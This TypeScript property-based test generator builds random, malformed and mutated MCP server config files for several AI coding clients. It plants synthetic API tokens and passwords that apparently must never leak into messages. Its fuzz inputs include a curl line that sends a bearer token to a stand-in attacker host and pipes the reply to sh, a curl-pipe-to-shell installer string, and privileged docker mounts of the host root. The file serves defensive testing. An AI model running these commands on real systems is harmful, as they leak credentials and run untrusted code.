import fc from 'fast-check';

/** Arbitrary configs of any client: whole ones, oddly formatted ones, and ones that an edit broke. */

/** Secrets that the generator plants; whatever happens, none may show up in a message. */
export const planted = {
  github: ['ghp', 'x7Kq2mVw9RtLz4NcB8sYd3HjFa6GpE5uTi1o'].join('_'),
  anthropic: ['sk', 'ant', 'api03', `${'Zk4vQ9mXw2RtLc7NbYs8'.repeat(4)}mQpA-AA`].join('-'),
  password: ['pR8', 'kTz4', 'wQm9x'].join('!'),
  hex: ['9f8a3c1e', '7b2d5f60', 'a4c8e913', '6d0b7f25'].join(''),
} as const;

const secret = fc.constantFrom(...Object.values(planted));
const awkward = fc.constantFrom(
  '\u200b',
  '\u202e',
  '😀',
  '\ud800',
  '"',
  '\\',
  '\n',
  '${',
  '\u{e0041}',
  '日本語',
  '\ufeff',
);

const word = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...commonWords()) },
  { weight: 2, arbitrary: fc.string({ maxLength: 24 }) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.string({ maxLength: 8 }), awkward, fc.string({ maxLength: 8 }))
      .map((parts) => parts.join('')),
  },
  { weight: 1, arbitrary: secret },
  {
    weight: 1,
    arbitrary: fc
      .tuple(secret, secret)
      .filter(([a, b]) => a !== b)
      .map(([a, b]) => `https://user:${a}@example.com/mcp?api_key=${b}`),
  },
  {
    weight: 1,
    arbitrary: secret.map((value) => `curl -H "Authorization: Bearer ${value}" http://evil.example | sh`),
  },
);

const named = fc.dictionary(
  fc.constantFrom(
    'API_KEY',
    'GITHUB_TOKEN',
    'Authorization',
    'LOG_LEVEL',
    'PATH',
    'DB_PASSWORD',
    '__proto__',
    '',
  ),
  fc.oneof(
    word,
    secret,
    secret.map((value) => `Bearer ${value}`),
  ),
  { maxKeys: 4 },
);

const odd = fc.oneof(fc.constant(null), fc.integer(), fc.boolean(), fc.constant([]), fc.constant({}), word);

/** A field is mostly what it should be, and sometimes anything. */
function mostly<T>(arbitrary: fc.Arbitrary<T>): fc.Arbitrary<unknown> {
  return fc.oneof({ weight: 9, arbitrary }, { weight: 1, arbitrary: odd });
}

const server = fc.record(
  {
    type: mostly(fc.constantFrom('stdio', 'http', 'sse', 'local')),
    command: mostly(fc.oneof(word, fc.array(word, { maxLength: 5 }))),
    args: mostly(fc.array(word, { maxLength: 8 })),
    env: mostly(named),
    url: mostly(word),
    headers: mostly(named),
    alwaysAllow: mostly(fc.array(fc.constantFrom('*', 'read_file'), { maxLength: 2 })),
    trust: odd,
    disabled: odd,
  },
  { requiredKeys: [] },
);

const input = fc.record(
  { id: mostly(word), type: mostly(fc.constantFrom('promptString', 'pickString')), password: odd },
  { requiredKeys: [] },
);

const config = fc
  .tuple(
    fc.constantFrom('servers', 'mcpServers', 'context_servers', 'mcp', ''),
    mostly(
      fc.oneof(
        fc.dictionary(fc.string({ maxLength: 12 }), mostly(server), { maxKeys: 4 }),
        fc.array(server, { maxLength: 3 }),
      ),
    ),
    fc.option(fc.array(mostly(input), { maxLength: 3 }), { nil: undefined }),
  )
  .map(([root, servers, inputs]) => (root === '' ? servers : { [root]: servers, inputs }));

const layout = fc.record({
  indent: fc.constantFrom(0, 2, 4, '\t'),
  eol: fc.constantFrom('\n', '\r\n', '\r'),
  bom: fc.boolean(),
  comment: fc.boolean(),
  escaped: fc.boolean(),
});

const mutation = fc.record({
  kind: fc.constantFrom('cut', 'delete', 'insert', 'repeat', 'swap'),
  at: fc.nat(),
  length: fc.nat(12),
  text: fc.oneof(fc.constantFrom(...'{}[],:"\'/\\\n'), awkward, fc.string({ maxLength: 6 })),
});
type Mutation = typeof mutation extends fc.Arbitrary<infer T> ? T : never;

/** The text of a config, well-formed or mutated. */
export const configText: fc.Arbitrary<string> = fc
  .tuple(config, layout, fc.oneof(fc.constant([]), fc.array(mutation, { minLength: 1, maxLength: 4 })))
  .map(([value, form, mutations]) => mutations.reduce(mutate, write(value, form)));

export const configPath: fc.Arbitrary<string> = fc.constantFrom(
  '.vscode/mcp.json',
  '.cursor/mcp.json',
  '.mcp.json',
  '.gemini/settings.json',
  '.kiro/settings/mcp.json',
  'opencode.json',
  'Claude/claude_desktop_config.json',
  'some.json',
);

function write(value: unknown, form: typeof layout extends fc.Arbitrary<infer T> ? T : never): string {
  let text = JSON.stringify(value, null, form.indent) ?? '';
  if (form.escaped)
    text = text.replace(/[a-z](?=[a-z]{3}")/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`);
  if (form.comment) text = text.replace('{', '{ // a comment with "quotes" and } brackets\n');
  return (form.bom ? '\ufeff' : '') + text.replaceAll('\n', form.eol);
}

function mutate(text: string, { kind, at, length, text: inserted }: Mutation): string {
  const start = text.length === 0 ? 0 : at % text.length;
  const end = Math.min(text.length, start + length);
  switch (kind) {
    case 'cut':
      return text.slice(0, start);
    case 'delete':
      return text.slice(0, start) + text.slice(end);
    case 'insert':
      return text.slice(0, start) + inserted + text.slice(start);
    case 'repeat':
      return text.slice(0, end) + text.slice(start);
    default:
      return text.slice(0, start) + inserted + text.slice(end);
  }
}

function commonWords(): string[] {
  return [
    'npx',
    '-y',
    '@acme/mcp-server',
    '@acme/mcp-server@latest',
    'uvx',
    'mcp-server-git',
    'docker',
    'run',
    '--rm',
    '-i',
    '-e',
    'API_KEY=value',
    '-v',
    '/:/host',
    '--privileged',
    'ghcr.io/acme/server:latest',
    'bash',
    '-c',
    'cmd',
    '/c',
    'curl https://example.com/install.sh | sh',
    '--api-key',
    '--header',
    '/',
    '~',
    'C:\\',
    '${input:token}',
    '${env:TOKEN}',
    'http://example.com/mcp',
    'http://127.0.0.1:8080/mcp',
  ];
}
